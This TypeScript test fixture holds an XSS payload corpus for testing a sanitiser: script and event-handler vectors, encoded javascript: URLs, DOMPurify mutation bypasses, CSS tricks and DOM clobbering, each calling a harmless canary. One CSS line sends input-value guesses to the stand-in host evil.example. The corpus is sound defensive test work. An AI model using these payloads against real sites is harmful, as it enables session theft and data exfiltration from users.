/*
 * XSS payloads for the sanitiser and every place that shows server or user text: the OWASP XSS
 * Filter Evasion Cheat Sheet (adapted so each one calls the canary instead of alert), mutation
 * XSS that broke DOMPurify before (math/mglyph, svg/style, noscript, form nesting), template
 * and DOM-clobbering tricks, and a few aimed at our own rules (the URL allow-list, links).
 * Every payload that can run anything calls `__xssCanary()` (or `parent.`/`top.` from a
 * frame), which the suites install and which must never be called.
 */

export const CANARY = '__xssCanary';
const call = `${CANARY}()`;
const js = `javascript:${call}`;

export interface Payload {
  /** Short, unique: test names and reports use it. */
  name: string;
  html: string;
  /**
   * Runs the canary in jsdom when inserted unsanitised and its events are fired, so the jsdom
   * control can prove the harness would notice (javascript: URLs, CSS and frames do not run
   * there; Chromium's control covers more).
   */
  live?: boolean;
}

const decimal = (text: string, pad = 0) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')};`).join('');
const decimalNoSemicolon = (text: string) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
const hex = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const cssUnicode = (text: string) =>
  [...text].map((c) => `\\${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

const frameScript = `<script>parent.${call}</script>`;
const svgScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${call}"><script>parent.${call}</script></svg>`;

export const XSS_CORPUS: readonly Payload[] = [
  // ── Script tags, plain and disguised ──────────────────────────────────
  { name: 'script', html: `<script>${call}</script>`, live: true },
  { name: 'script upper', html: `<SCRIPT>${call}</SCRIPT>`, live: true },
  { name: 'script data src', html: `<SCRIPT SRC=data:text/javascript,${call}></SCRIPT>` },
  { name: 'script slash attr', html: `<SCRIPT/XSS SRC="data:,${call}"></SCRIPT>` },
  { name: 'script slash src', html: `<SCRIPT/SRC="data:,${call}"></SCRIPT>` },
  { name: 'extra open bracket', html: `<<SCRIPT>${call};//<</SCRIPT>`, live: true },
  { name: 'unclosed script', html: `<SCRIPT SRC=data:,${call}?< B >` },
  { name: 'title breakout', html: `</TITLE><SCRIPT>${call};</SCRIPT>`, live: true },
  { name: 'script gt in attr', html: `<SCRIPT a=">" SRC="data:,${call}"></SCRIPT>` },
  { name: 'script quoted gt', html: `<SCRIPT "a='>'" SRC="data:,${call}"></SCRIPT>` },
  { name: 'split script', html: `<scr<script>ipt>${call}</scr</script>ipt>` },
  {
    name: 'document.write split',
    html: `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="data:,${call}"></SCRIPT>`,
  },
  { name: 'script in attr breakout', html: `"><script>${call}</script>`, live: true },
  { name: 'single quote breakout', html: `'><script>${call}</script>`, live: true },
  { name: 'escaped text stays text', html: `&lt;script&gt;${call}&lt;/script&gt;` },
  { name: 'downlevel-hidden', html: `<!--[if gte IE 4]><SCRIPT>${call};</SCRIPT><![endif]-->` },
  { name: 'comment breakout', html: `<!--><script>${call}</script>-->`, live: true },
  { name: 'cdata', html: `<![CDATA[><script>${call}</script>]]>`, live: true },

  // ── Event handlers ────────────────────────────────────────────────────
  { name: 'img onerror', html: `<img src=x onerror="${call}">`, live: true },
  { name: 'img onerror unquoted', html: `<IMG SRC=/ onerror=${call}></img>`, live: true },
  { name: 'img no src onmouseover', html: `<IMG onmouseover="${call}">`, live: true },
  { name: 'img empty src', html: `<IMG SRC= onmouseover="${call}">` },
  { name: 'img slashes', html: `<img/src/onerror=${call}>`, live: true },
  { name: 'img unclosed', html: `<img src=x onerror=${call}//` },
  { name: 'img malformed quotes', html: `<IMG """><SCRIPT>${call}</SCRIPT>"\\>`, live: true },
  { name: 'img entity handler', html: `<img src=x onerror="${hex(call)}">`, live: true },
  { name: 'a onmouseover', html: `<a onmouseover="${call}">xxs link</a>`, live: true },
  { name: 'a onclick', html: `<a href="#" onclick="${call}">click</a>`, live: true },
  { name: 'svg onload', html: `<svg/onload=${call}>`, live: true },
  { name: 'svg script', html: `<svg><script>${call}</script></svg>`, live: true },
  { name: 'svg animate', html: `<svg><animate onbegin=${call} attributeName=x dur=1s>` },
  { name: 'body onload', html: `<BODY ONLOAD=${call}>` },
  { name: 'body punctuation', html: `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${call}>` },
  { name: 'body onpageshow', html: `<body onpageshow=${call}>` },
  { name: 'details ontoggle', html: `<details open ontoggle=${call}>`, live: true },
  { name: 'video source onerror', html: `<video><source onerror=${call}></video>`, live: true },
  { name: 'audio onerror', html: `<audio src=x onerror=${call}>`, live: true },
  { name: 'marquee onstart', html: `<marquee onstart=${call}>x</marquee>` },
  { name: 'input autofocus', html: `<input autofocus onfocus=${call}>`, live: true },
  { name: 'select autofocus', html: `<select autofocus onfocus=${call}></select>`, live: true },
  {
    name: 'textarea autofocus',
    html: `<textarea autofocus onfocus=${call}></textarea>`,
    live: true,
  },
  {
    name: 'animation start',
    html: `<div style="animation-name:spin" onanimationstart=${call}>x</div>`,
  },
  { name: 'custom element handler', html: `<x-foo onclick=${call}>click</x-foo>`, live: true },
  { name: 'pointer handler', html: `<p onpointerover=${call}>hover</p>`, live: true },
  { name: 'handler vertical tab', html: `<img src=x onerror\u000b=${call}>` },
  { name: 'iframe onmouseover', html: `<IFRAME SRC=# onmouseover="${call}"></IFRAME>`, live: true },

  // ── javascript:, vbscript: and data: URLs, with encodings ─────────────
  { name: 'img js src', html: `<IMG SRC="${js};">` },
  { name: 'img js mixed case', html: `<IMG SRC=JaVaScRiPt:${call}>` },
  { name: 'img js backtick', html: `<IMG SRC=\`${js}\`>` },
  { name: 'img decimal entities', html: `<IMG SRC=${decimal(js)}>` },
  { name: 'img long decimal', html: `<IMG SRC=${decimalNoSemicolon(js)}>` },
  { name: 'img hex entities', html: `<IMG SRC=${hex(js)}>` },
  { name: 'a js href', html: `<a href="${js}">link</a>` },
  { name: 'a js entities', html: `<a href="${decimal(js, 3)}">link</a>` },
  { name: 'a js hex entities', html: `<a href="${hex(js)}">link</a>` },
  { name: 'a embedded tab', html: `<a href="jav\tascript:${call}">link</a>` },
  { name: 'a encoded tab', html: `<a href="jav&#x09;ascript:${call}">link</a>` },
  { name: 'a encoded newline', html: `<a href="jav&#x0A;ascript:${call}">link</a>` },
  { name: 'a encoded cr', html: `<a href="jav&#x0D;ascript:${call}">link</a>` },
  { name: 'a null byte', html: `<a href="java\u0000script:${call}">link</a>` },
  { name: 'a leading space', html: `<a href=" &#14;  ${js}">link</a>` },
  { name: 'a colon entity', html: `<a href="javascript&colon;${call}">link</a>` },
  { name: 'a newline entity', html: `<a href="java&NewLine;script:${call}">link</a>` },
  { name: 'a vbscript', html: `<a href="vbscript:${call}">link</a>` },
  { name: 'img vbscript', html: `<IMG SRC='vbscript:${call}'>` },
  { name: 'a data html', html: `<a href="data:text/html;base64,${base64(frameScript)}">x</a>` },
  { name: 'a data html plain', html: `<a href="data:text/html,${frameScript}">link</a>` },
  { name: 'a xlink href', html: `<svg><a xlink:href="${js}"><text y="20">x</text></a></svg>` },
  { name: 'svg set href', html: `<svg><a><set attributeName=href to="${js}"/><text>x</text></a>` },
  { name: 'input image', html: `<INPUT TYPE="IMAGE" SRC="${js};">` },
  { name: 'body background', html: `<BODY BACKGROUND="${js}">` },
  { name: 'img dynsrc', html: `<IMG DYNSRC="${js}">` },
  { name: 'img lowsrc', html: `<IMG LOWSRC="${js}">` },
  { name: 'img srcset', html: `<img srcset="${js} 1x">` },
  { name: 'bgsound', html: `<BGSOUND SRC="${js};">` },
  { name: 'br ampersand js', html: `<BR SIZE="&{${call}}">` },
  { name: 'table background', html: `<TABLE BACKGROUND="${js}"><tr><td>x</td></tr></TABLE>` },
  { name: 'td background', html: `<TABLE><TD BACKGROUND="${js}">x</TD></TABLE>` },
  { name: 'half-open', html: `<IMG SRC="\`('${js}')"` },
  {
    name: 'xml island',
    html: `<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:${call}"></B></I></XML>`,
  },
  { name: 'protocol relative', html: `<a href="//evil.example/">link</a>` },
  { name: 'backslash relative', html: `<a href="/\\evil.example/">link</a>` },
  { name: 'tab relative', html: `<a href="/\t/evil.example/">link</a>` },

  // ── Frames, objects, embeds, base, meta, forms ────────────────────────
  { name: 'iframe js', html: `<IFRAME SRC="javascript:parent.${call};"></IFRAME>` },
  {
    name: 'iframe srcdoc',
    html: `<iframe srcdoc="${frameScript.replace(/"/g, '&quot;')}"></iframe>`,
  },
  {
    name: 'iframe srcdoc entity',
    html: `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  },
  { name: 'iframe data', html: `<iframe src="data:text/html,${frameScript}"></iframe>` },
  { name: 'frameset', html: `<FRAMESET><FRAME SRC="javascript:parent.${call};"></FRAMESET>` },
  {
    name: 'object scriptlet',
    html: `<OBJECT TYPE="text/x-scriptlet" DATA="data:text/html,${frameScript}"></OBJECT>`,
  },
  { name: 'object js', html: `<object data="${js}"></object>` },
  { name: 'embed svg', html: `<EMBED SRC="data:image/svg+xml;base64,${base64(svgScript)}">` },
  { name: 'embed js', html: `<embed src="${js}">` },
  { name: 'applet', html: `<applet code="${js}"></applet>` },
  { name: 'base href', html: `<BASE HREF="${js};//">` },
  { name: 'meta refresh js', html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=${js};">` },
  {
    name: 'meta refresh data',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${base64(frameScript)}">`,
  },
  {
    name: 'meta refresh double url',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=${js};">`,
  },
  {
    name: 'meta link css',
    html: `<META HTTP-EQUIV="Link" Content="<data:text/css,x>; REL=stylesheet">`,
  },
  { name: 'link stylesheet js', html: `<LINK REL="stylesheet" HREF="${js};">` },
  { name: 'link import', html: `<link rel=import href="data:text/html,${frameScript}">` },
  { name: 'form action', html: `<form action="${js}"><input type=submit></form>` },
  { name: 'button formaction', html: `<form><button formaction=${js}>x</button></form>` },
  { name: 'isindex', html: `<isindex action=${js} type=submit>` },

  // ── CSS ──────────────────────────────────────────────────────────────
  {
    name: 'list-style-image',
    html: `<STYLE>li {list-style-image: url("${js}");}</STYLE><UL><LI>XSS</LI></UL>`,
  },
  { name: 'style import', html: `<STYLE>@import'${js}';</STYLE>` },
  { name: 'style broken import', html: `<STYLE>@im\\port'\\ja\\vasc\\ript:${call}';</STYLE>` },
  { name: 'style expression comment', html: `<IMG STYLE="xss:expr/*XSS*/ession(${call})">` },
  { name: 'style type js', html: `<STYLE TYPE="text/javascript">${call};</STYLE>` },
  {
    name: 'style class background',
    html: `<STYLE>.XSS{background-image:url("${js}");}</STYLE><A CLASS=XSS></A>`,
  },
  {
    name: 'style body background',
    html: `<STYLE type="text/css">BODY{background:url("${js}")}</STYLE>`,
  },
  { name: 'xss style expression', html: `<XSS STYLE="xss:expression(${call})">` },
  { name: 'behavior htc', html: `<XSS STYLE="behavior: url(xss.htc);">` },
  { name: 'div background js', html: `<DIV STYLE="background-image: url(${js})">x</DIV>` },
  {
    name: 'div background unicode',
    html: `<DIV STYLE="background-image:${cssUnicode(`url('${js}')`)}">x</DIV>`,
  },
  { name: 'div expression', html: `<DIV STYLE="width: expression(${call});">x</DIV>` },
  { name: 'css escape expression', html: `<div style="x:\\65xpression(${call})">x</div>` },
  {
    name: 'style exfiltration',
    html: `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
  },

  // ── Mutation XSS (parser round trips) ─────────────────────────────────
  {
    name: 'math mglyph style',
    html: `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  },
  {
    name: 'math mglyph svg path',
    html: `<math><mtext><mglyph><svg><mtext><style><path id="</style><img src onerror=${call}>">`,
  },
  { name: 'svg p style', html: `<svg></p><style><a id="</style><img src=1 onerror=${call}>">` },
  {
    name: 'form math nesting',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  },
  {
    name: 'math textarea',
    html: `<math><mi><li><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call} src=1>">`,
  },
  { name: 'svg style', html: `<svg><style><img src=x onerror=${call}></style></svg>` },
  { name: 'noscript title', html: `<noscript><p title="</noscript><img src=x onerror=${call}>">` },
  { name: 'noembed title', html: `<noembed><img title="</noembed><img src onerror=${call}>">` },
  { name: 'noframes title', html: `<noframes><img title="</noframes><img src onerror=${call}>">` },
  { name: 'xmp title', html: `<xmp><p title="</xmp><img src=x onerror=${call}>">` },
  { name: 'title title', html: `<title><img title="</title><img src onerror=${call}>">` },
  { name: 'textarea title', html: `<textarea><img title="</textarea><img src onerror=${call}>">` },
  {
    name: 'iframe title',
    html: `<iframe><img title="</iframe><img src onerror=${call}>"></iframe>`,
  },
  { name: 'style title', html: `<style><img title="</style><img src onerror=${call}>"></style>` },
  { name: 'template script', html: `<template><script>${call}</script></template>` },
  { name: 'template img', html: `<template><img src=x onerror=${call}></template>` },
  {
    name: 'deep nesting',
    html: `${'<div>'.repeat(300)}<img src=x onerror=${call}>${'</div>'.repeat(300)}`,
    live: true,
  },
  {
    name: 'selectedcontent',
    html: `<select><option><img src=x onerror=${call}></option></select>`,
  },

  // ── DOM clobbering ────────────────────────────────────────────────────
  { name: 'clobber getElementById', html: '<form name="getElementById"></form>' },
  { name: 'clobber createElement', html: '<img name="createElement">' },
  { name: 'clobber cookie', html: '<img name="cookie">' },
  { name: 'clobber body', html: '<img name="body" id="body">' },
  { name: 'clobber attributes', html: '<form id="x"><input name="attributes"></form>' },
  { name: 'clobber canary', html: `<a id="${CANARY}" name="${CANARY}" href="${js}">x</a>` },
  { name: 'clobber root', html: '<div id="root">x</div>' },
  { name: 'clobber config', html: `<a id="CONFIG" name="CONFIG" href="//evil.example">x</a>` },
  { name: 'clobber defaultView', html: '<a id="defaultView">x</a>' },
  { name: 'clobber location', html: '<img name="location" src="x">' },
];
